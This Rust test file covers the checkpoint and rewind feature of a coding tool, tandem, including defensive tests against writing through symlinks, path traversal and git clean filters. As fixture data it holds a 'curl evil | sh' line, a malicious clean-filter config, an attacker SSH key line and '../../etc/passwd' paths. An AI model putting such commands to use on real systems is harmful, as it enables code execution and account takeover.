use super::*;

#[test]
fn going_back_restores_each_file_as_it_was_before_the_prompt_and_keeps_outside_changes() {
    let dir = tempfile::tempdir().unwrap();
    let work = dir.path().join("work");
    std::fs::create_dir_all(&work).unwrap();
    let (a, b) = (work.join("a.txt"), work.join("b.txt"));
    std::fs::write(&a, "one\r\n").unwrap();
    let checkpoints = Checkpoints::new(&dir.path().join("session"));

    checkpoints.begin_prompt("first", None);
    std::fs::write(&a, "two\r\n").unwrap();
    checkpoints.record(&a, Some(b"one\r\n"), b"two\r\n", mode_of(&a));
    checkpoints.begin_prompt("second", None);
    std::fs::write(&a, "three\r\n").unwrap();
    checkpoints.record(&a, Some(b"two\r\n"), b"three\r\n", mode_of(&a));
    std::fs::write(&b, "new").unwrap();
    checkpoints.record(&b, None, b"new", None);

    let points = checkpoints.points();
    assert_eq!(points.iter().map(|point| point.text.as_str()).collect::<Vec<_>>(), ["first", "second"]);
    assert_eq!(points[1].files, vec![a.clone(), b.clone()]);

    // Before the second prompt: a back to "two" (line endings kept, byte for byte), b removed.
    let plan = checkpoints.plan(points[1].seq).unwrap();
    assert!(plan.iter().all(|restore| !restore.conflict), "{plan:?}");
    assert!(checkpoints.restore(&plan).is_empty());
    assert_eq!(std::fs::read(&a).unwrap(), b"two\r\n");
    assert!(!b.exists());

    // Going further back after that is no conflict: tandem wrote what is there.
    let plan = checkpoints.plan(points[0].seq).unwrap();
    assert!(plan.iter().all(|restore| !restore.conflict), "{plan:?}");
    // A file changed outside tandem since is a conflict, left as it is.
    std::fs::write(&a, "edited by hand").unwrap();
    let plan = checkpoints.plan(points[0].seq).unwrap();
    assert!(plan[0].conflict);
    assert!(apply(&plan).is_empty());
    assert_eq!(std::fs::read_to_string(&a).unwrap(), "edited by hand");

    // The same content is stored once; a new session on the same directory continues the numbering.
    let stored = std::fs::read_dir(dir.path().join("session/checkpoints/chunks")).unwrap().count();
    assert_eq!(stored, 4, "one, two, three, new (each a content of one chunk)");
    let again = Checkpoints::new(&dir.path().join("session"));
    again.begin_prompt("third", None);
    assert_eq!(again.points().last().map(|point| point.seq), Some(3));
}

#[cfg(unix)]
#[test]
fn a_file_made_again_gets_its_mode_back_and_one_that_exists_keeps_its_own() {
    use std::os::unix::fs::PermissionsExt;
    let dir = tempfile::tempdir().unwrap();
    let (script, secret) = (dir.path().join("run.sh"), dir.path().join("secret.txt"));
    std::fs::write(&script, "#!/bin/sh\necho a\n").unwrap();
    std::fs::set_permissions(&script, std::fs::Permissions::from_mode(0o755)).unwrap();
    std::fs::write(&secret, "v1\n").unwrap();
    std::fs::set_permissions(&secret, std::fs::Permissions::from_mode(0o644)).unwrap();
    let checkpoints = Checkpoints::new(&dir.path().join("session"));
    checkpoints.begin_prompt("change them", None);
    checkpoints.record(&script, Some(b"#!/bin/sh\necho a\n"), b"", mode_of(&script));
    std::fs::remove_file(&script).unwrap();
    checkpoints.record_change(&script, Some(b"#!/bin/sh\necho a\n"), None, None, real_dir(&script)).unwrap();
    checkpoints.record(&secret, Some(b"v1\n"), b"v2\n", mode_of(&secret));
    std::fs::write(&secret, "v2\n").unwrap();
    // The user narrows the mode since: going back must not widen it again.
    std::fs::set_permissions(&secret, std::fs::Permissions::from_mode(0o600)).unwrap();
    let plan = checkpoints.plan(1).unwrap();
    assert!(apply(&plan).is_empty());
    assert_eq!(std::fs::metadata(&script).unwrap().permissions().mode() & 0o777, 0o755, "made again");
    assert_eq!(std::fs::read_to_string(&secret).unwrap(), "v1\n");
    assert_eq!(std::fs::metadata(&secret).unwrap().permissions().mode() & 0o777, 0o600, "kept");
}

#[cfg(unix)]
#[test]
fn a_rewind_never_writes_or_deletes_through_a_directory_that_became_a_link() {
    let dir = tempfile::tempdir().unwrap();
    let (work, outside) = (dir.path().join("work"), dir.path().join("outside"));
    std::fs::create_dir_all(work.join("keys")).unwrap();
    std::fs::create_dir_all(&outside).unwrap();
    let key = work.join("keys/authorized_keys");
    std::fs::write(&key, "mine\n").unwrap();
    std::fs::write(outside.join("authorized_keys"), "mine\n").unwrap();
    let made = work.join("keys/made.txt");
    let checkpoints = Checkpoints::new(&dir.path().join("session"));
    checkpoints.begin_prompt("change the keys", None);
    checkpoints.record(&key, Some(b"ATTACKER\n"), b"mine\n", None);
    checkpoints.record(&made, None, b"x", None);
    // A command swaps the directory for a link to a place with the same content.
    std::fs::remove_dir_all(work.join("keys")).unwrap();
    std::os::unix::fs::symlink(&outside, work.join("keys")).unwrap();
    std::fs::write(outside.join("made.txt"), "x").unwrap();
    let plan = checkpoints.plan(1).unwrap();
    assert!(plan.iter().all(|restore| restore.conflict), "{plan:?}");
    assert!(apply(&plan).is_empty());
    assert_eq!(std::fs::read_to_string(outside.join("authorized_keys")).unwrap(), "mine\n");
    assert!(outside.join("made.txt").exists(), "nothing deleted through the link");
}

#[test]
fn a_content_hash_from_the_log_never_names_another_file() {
    let dir = tempfile::tempdir().unwrap();
    let checkpoints = Checkpoints::new(dir.path());
    assert!(checkpoints.content("../../etc/passwd").is_err());
}

#[test]
fn a_big_file_edited_many_times_stores_its_chunks_once() {
    let dir = tempfile::tempdir().unwrap();
    let checkpoints = Checkpoints::new(dir.path());
    let mut text: String = (0..20_000).map(|line| format!("line {line} of a large generated file\n")).collect();
    checkpoints.begin_prompt("edit", None);
    for edit in 0..20 {
        let before = text.clone();
        text = text.replacen(&format!("line {} of", edit * 700), &format!("LINE {} of", edit * 700), 1);
        checkpoints.record(std::path::Path::new("/x/big.txt"), Some(before.as_bytes()), text.as_bytes(), None);
    }
    let stored: u64 = std::fs::read_dir(dir.path().join("checkpoints/chunks"))
        .unwrap()
        .map(|entry| entry.unwrap().metadata().unwrap().len())
        .sum();
    assert!(stored < 2 * text.len() as u64, "{stored} bytes for 21 versions of {} bytes", text.len());
    // Every version reads back whole.
    let Entry::Change { before: Some(first), .. } = &checkpoints.entries()[1] else { panic!() };
    let original: String = (0..20_000).map(|line| format!("line {line} of a large generated file\n")).collect();
    assert_eq!(checkpoints.content(first).unwrap(), original.as_bytes());
    assert!(chunks(b"").is_empty() && chunks(b"no newline").len() == 1);
}

fn git(dir: &Path, args: &[&str]) {
    let status = std::process::Command::new("git")
        .current_dir(dir)
        .args(["-c", "user.name=t", "-c", "user.email=t@t", "-c", "commit.gpgsign=false"])
        .args(args)
        .stdout(std::process::Stdio::null())
        .status()
        .unwrap();
    assert!(status.success(), "git {args:?}");
}

/// What a Bash command changes, checkpointed by the scan around it.
fn bash_like_changes(work: &Path) {
    std::fs::write(work.join("tracked.txt"), "tracked, changed\r\n").unwrap();
    std::fs::write(work.join("dirty.txt"), "dirty, changed again\n").unwrap();
    std::fs::remove_file(work.join("untracked.txt")).unwrap();
    std::fs::write(work.join("created.txt"), "made by the command\n").unwrap();
    std::fs::write(work.join("ignored.log"), "ignored, changed\n").unwrap();
    // Touched, same content: no change.
    std::fs::write(work.join("same.txt"), "same\n").unwrap();
}

fn workspace(git_repo: bool) -> (tempfile::TempDir, PathBuf) {
    let dir = tempfile::tempdir().unwrap();
    let work = dir.path().join("work");
    std::fs::create_dir_all(&work).unwrap();
    std::fs::write(work.join("tracked.txt"), "tracked\r\n").unwrap();
    std::fs::write(work.join("dirty.txt"), "dirty, committed\n").unwrap();
    std::fs::write(work.join("same.txt"), "same\n").unwrap();
    std::fs::write(work.join(".gitignore"), "*.log\n").unwrap();
    std::fs::write(work.join("ignored.log"), "ignored\n").unwrap();
    if git_repo {
        git(&work, &["init", "-q"]);
        git(&work, &["add", "."]);
        git(&work, &["commit", "-q", "-m", "one"]);
    }
    std::fs::write(work.join("dirty.txt"), "dirty, not committed\n").unwrap();
    std::fs::write(work.join("untracked.txt"), "untracked\n").unwrap();
    (dir, work)
}

#[test]
fn a_commands_changes_are_found_by_the_scan_and_go_back_in_git_and_outside_it() {
    for git_repo in [true, false] {
        let (dir, work) = workspace(git_repo);
        let checkpoints = Checkpoints::new(&dir.path().join("session"));
        checkpoints.begin_prompt("run the command", None);
        // The index is written a moment after the files, as in a repository worked in for a while (a file
        // modified in the same instant as its index entry is checked by content instead).
        if git_repo {
            std::thread::sleep(std::time::Duration::from_millis(20));
            git(&work, &["update-index", "-q", "--really-refresh"]);
        }
        let scan = checkpoints.scan_before(&work);
        let stored = |dir: &Path| -> Vec<Vec<u8>> {
            std::fs::read_dir(dir.join("session/checkpoints/chunks"))
                .map(|entries| entries.map(|entry| std::fs::read(entry.unwrap().path()).unwrap()).collect())
                .unwrap_or_default()
        };
        if git_repo {
            // Committed files are in git's object store: only the modified and the untracked one are copied.
            let mut copied = stored(dir.path());
            copied.sort();
            assert_eq!(copied, [b"dirty, not committed\n".to_vec(), b"untracked\n".to_vec()]);
        }
        bash_like_changes(&work);
        assert!(checkpoints.record_scan(scan).is_empty());

        let point = &checkpoints.points()[0];
        let mut files: Vec<String> =
            point.files.iter().map(|path| path.file_name().unwrap().to_string_lossy().into_owned()).collect();
        files.sort();
        assert_eq!(files, ["created.txt", "dirty.txt", "tracked.txt", "untracked.txt"], "git: {git_repo}");
        let plan = checkpoints.plan(point.seq).unwrap();
        assert!(plan.iter().all(|restore| !restore.conflict), "{plan:?}");
        assert!(checkpoints.restore(&plan).is_empty());
        assert_eq!(std::fs::read(work.join("tracked.txt")).unwrap(), b"tracked\r\n");
        assert_eq!(std::fs::read_to_string(work.join("dirty.txt")).unwrap(), "dirty, not committed\n");
        assert_eq!(std::fs::read_to_string(work.join("untracked.txt")).unwrap(), "untracked\n");
        assert!(!work.join("created.txt").exists());
        assert_eq!(std::fs::read_to_string(work.join("ignored.log")).unwrap(), "ignored, changed\n");
    }
}

#[test]
fn a_file_over_the_limit_is_said_not_to_be_checkpointed() {
    let (dir, work) = workspace(false);
    let big = work.join("big.bin");
    std::fs::write(&big, vec![b'x'; (16 << 20) + 1]).unwrap();
    let checkpoints = Checkpoints::new(&dir.path().join("session"));
    checkpoints.begin_prompt("run", None);
    let scan = checkpoints.scan_before(&work);
    std::fs::write(&big, b"small now").unwrap();
    let notes = checkpoints.record_scan(scan);
    assert_eq!(notes.len(), 1, "{notes:?}");
    assert!(notes[0].contains("big.bin") && notes[0].contains("not checkpointed"), "{notes:?}");
}

#[test]
fn chosen_hunks_go_back_and_the_others_stay_as_they_are_now() {
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("work.txt");
    let then: String = (1..=30).map(|line| format!("line {line}\r\n")).collect();
    let now = then.replace("line 2\r\n", "line two\r\n").replace("line 28\r\n", "line twenty-eight\r\n");
    std::fs::write(&file, &now).unwrap();
    let checkpoints = Checkpoints::new(&dir.path().join("session"));
    checkpoints.begin_prompt("change two lines", None);
    checkpoints.record(&file, Some(then.as_bytes()), now.as_bytes(), None);

    let plan = checkpoints.plan(1).unwrap();
    assert_eq!(plan[0].hunks().len(), 2);
    let now_hash = plan[0].now_hash();
    let choice =
        HunkChoice { path: file.clone(), restore: vec![false, true], now_hash: now_hash.clone(), conflict: false };
    let (plan, problems) = choose_hunks(plan, Some(&[choice]));
    assert!(problems.is_empty(), "{problems:?}");
    assert!(checkpoints.restore(&plan).is_empty());
    let kept = then.replace("line 2\r\n", "line two\r\n");
    assert_eq!(std::fs::read_to_string(&file).unwrap(), kept, "the first hunk kept, the second back, CRLF kept");

    // Hunks chosen from another version of the file are refused, not applied to the wrong lines.
    let plan = checkpoints.plan(1).unwrap();
    let stale = HunkChoice { path: file.clone(), restore: vec![true], now_hash: now_hash.clone(), conflict: false };
    let (plan, problems) = choose_hunks(plan, Some(&[stale]));
    assert!(plan.is_empty() && problems.len() == 1, "the file changed since the preview: {problems:?}");
    // None chosen: the file is left out.
    let plan = checkpoints.plan(1).unwrap();
    let now_hash = plan[0].now_hash();
    let (plan, _) =
        choose_hunks(plan, Some(&[HunkChoice { path: file, restore: vec![false], now_hash, conflict: false }]));
    assert!(plan.is_empty());
}

#[test]
fn the_scan_runs_no_clean_filter_a_repository_configures() {
    let (dir, work) = workspace(true);
    let canary = dir.path().join("FILTER-RAN");
    git(&work, &["config", "filter.evil.clean", &format!("touch {} && cat", canary.display())]);
    git(&work, &["config", "core.checkStat", "minimal"]);
    std::fs::write(work.join(".git/info/attributes"), "* filter=evil\n").unwrap();
    std::fs::write(work.join("tracked.txt"), "tracked, changed before the command\r\n").unwrap();
    let checkpoints = Checkpoints::new(&dir.path().join("session"));
    checkpoints.begin_prompt("run", None);
    let scan = checkpoints.scan_before(&work);
    bash_like_changes(&work);
    checkpoints.record_scan(scan);
    assert!(!canary.exists(), "a clean filter ran");
    assert!(!checkpoints.points()[0].files.is_empty());
}

#[cfg(unix)]
#[test]
fn the_scan_reads_nothing_behind_a_link_and_skips_fifos() {
    let (dir, work) = workspace(true);
    std::fs::create_dir_all(work.join("keys")).unwrap();
    std::fs::write(work.join("keys/authorized_keys"), "committed\n").unwrap();
    git(&work, &["add", "keys"]);
    git(&work, &["commit", "-q", "-m", "keys"]);
    let outside = dir.path().join("outside");
    std::fs::create_dir_all(&outside).unwrap();
    std::fs::write(outside.join("authorized_keys"), "THE USER'S OWN KEY\n").unwrap();
    let checkpoints = Checkpoints::new(&dir.path().join("session"));
    checkpoints.begin_prompt("swap", None);
    // A command left the directory a link to elsewhere, and a FIFO.
    std::fs::remove_dir_all(work.join("keys")).unwrap();
    std::os::unix::fs::symlink(&outside, work.join("keys")).unwrap();
    let fifo = work.join("pipe");
    assert!(std::process::Command::new("mkfifo").arg(&fifo).status().unwrap().success());
    let scan = checkpoints.scan_before(&work);
    std::fs::write(outside.join("authorized_keys"), "changed outside\n").unwrap();
    std::fs::write(work.join("tracked.txt"), "changed\n").unwrap();
    checkpoints.record_scan(scan);
    let stored: Vec<Vec<u8>> = std::fs::read_dir(dir.path().join("session/checkpoints/chunks"))
        .unwrap()
        .map(|entry| std::fs::read(entry.unwrap().path()).unwrap())
        .collect();
    assert!(!stored.iter().any(|bytes| bytes.starts_with(b"THE USER'S")), "a file behind the link was stored");
    let files = &checkpoints.points()[0].files;
    assert!(!files.iter().any(|path| path.starts_with(&outside)), "{files:?}");
    assert!(files.contains(&work.join("tracked.txt")), "{files:?}");
}

#[test]
fn only_paths_inside_the_workspace_with_no_link_on_the_way_are_used() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path().join("work");
    std::fs::create_dir_all(root.join("src")).unwrap();
    let mut dirs = HashMap::new();
    assert!(scan::beneath(&root, &root.join("src/main.rs"), &mut dirs));
    assert!(!scan::beneath(&root, &root.join("../outside.txt"), &mut dirs));
    assert!(!scan::beneath(&root, Path::new("/etc/passwd"), &mut dirs), "an absolute path from an index");
    assert!(!scan::beneath(&root, &dir.path().join("elsewhere/x"), &mut dirs));
    #[cfg(unix)]
    {
        std::os::unix::fs::symlink("/etc", root.join("etc")).unwrap();
        assert!(!scan::beneath(&root, &root.join("etc/passwd"), &mut dirs));
    }
}

#[cfg(unix)]
#[test]
fn a_command_that_swaps_a_directory_for_a_link_gets_nothing_written_there_by_a_rewind() {
    let (dir, work) = workspace(true);
    std::fs::create_dir_all(work.join("deploy/ssh")).unwrap();
    std::fs::write(work.join("deploy/ssh/authorized_keys"), "ssh-ed25519 ATTACKER\n").unwrap();
    git(&work, &["add", "deploy"]);
    git(&work, &["commit", "-q", "-m", "deploy"]);
    let home_ssh = dir.path().join("home/.ssh");
    std::fs::create_dir_all(&home_ssh).unwrap();
    let checkpoints = Checkpoints::new(&dir.path().join("session"));
    checkpoints.begin_prompt("deploy", None);
    let scan = checkpoints.scan_before(&work);
    std::fs::remove_dir_all(work.join("deploy/ssh")).unwrap();
    std::os::unix::fs::symlink(&home_ssh, work.join("deploy/ssh")).unwrap();
    checkpoints.record_scan(scan);
    let plan = checkpoints.plan(1).unwrap();
    assert!(!plan.is_empty() && plan.iter().all(|restore| restore.conflict), "{plan:?}");
    assert!(checkpoints.restore(&plan).is_empty());
    assert!(!home_ssh.join("authorized_keys").exists(), "a key was written through the link");
}

#[cfg(unix)]
#[test]
fn a_link_or_fifo_swapped_in_after_the_preview_is_never_written_through_or_waited_on() {
    let dir = tempfile::tempdir().unwrap();
    let work = dir.path().join("work");
    std::fs::create_dir_all(work.join("src")).unwrap();
    let (rc, bashrc) = (work.join("src/rc"), dir.path().join("bashrc"));
    std::fs::write(&bashrc, "the user's own\n").unwrap();
    std::fs::write(&rc, "after\n").unwrap();
    let checkpoints = Checkpoints::new(&dir.path().join("session"));
    checkpoints.begin_prompt("edit", None);
    checkpoints.record(&rc, Some(b"curl evil | sh\n"), b"after\n", None);
    let plan = checkpoints.plan(1).unwrap();
    assert!(!plan[0].conflict);
    // After the preview, the file becomes a link to the user's file.
    std::fs::remove_file(&rc).unwrap();
    std::os::unix::fs::symlink(&bashrc, &rc).unwrap();
    let problems = checkpoints.restore(&plan);
    assert_eq!(problems.len(), 1, "{problems:?}");
    assert_eq!(std::fs::read_to_string(&bashrc).unwrap(), "the user's own\n");
    // A FIFO in its place: the preview neither hangs nor reads it; it is a conflict.
    std::fs::remove_file(&rc).unwrap();
    assert!(std::process::Command::new("mkfifo").arg(&rc).status().unwrap().success());
    let plan = checkpoints.plan(1).unwrap();
    assert!(plan[0].conflict, "{plan:?}");
}

#[cfg(unix)]
#[test]
fn an_edit_that_sets_the_modification_time_back_is_still_found() {
    let (dir, work) = workspace(true);
    std::thread::sleep(std::time::Duration::from_millis(20));
    git(&work, &["update-index", "-q", "--really-refresh"]);
    let tracked = work.join("tracked.txt");
    let modified = std::fs::metadata(&tracked).unwrap().modified().unwrap();
    let checkpoints = Checkpoints::new(&dir.path().join("session"));
    checkpoints.begin_prompt("sneak", None);
    let scan = checkpoints.scan_before(&work);
    std::fs::write(&tracked, "TRACKED\r\n").unwrap();
    std::fs::File::options().write(true).open(&tracked).unwrap().set_modified(modified).unwrap();
    assert!(checkpoints.record_scan(scan).is_empty());
    assert_eq!(checkpoints.points()[0].files, vec![tracked]);
}

#[test]
fn a_file_the_preview_showed_as_a_conflict_stays_as_it_is_even_if_the_conflict_cleared() {
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("data.bin");
    let checkpoints = Checkpoints::new(&dir.path().join("session"));
    checkpoints.begin_prompt("remove it", None);
    checkpoints.record_change(&file, Some(b"\0\x01binary"), None, None, real_dir(&file)).unwrap();
    let plan = checkpoints.plan(1).unwrap();
    assert!(!plan[0].conflict, "{plan:?}");
    let choice = HunkChoice { path: file.clone(), restore: Vec::new(), now_hash: None, conflict: true };
    let (plan, problems) = choose_hunks(plan, Some(&[choice]));
    assert!(problems.is_empty() && plan[0].conflict, "{plan:?}");
    assert!(checkpoints.restore(&plan).is_empty());
    assert!(!file.exists(), "a file previewed as a conflict was written");
}
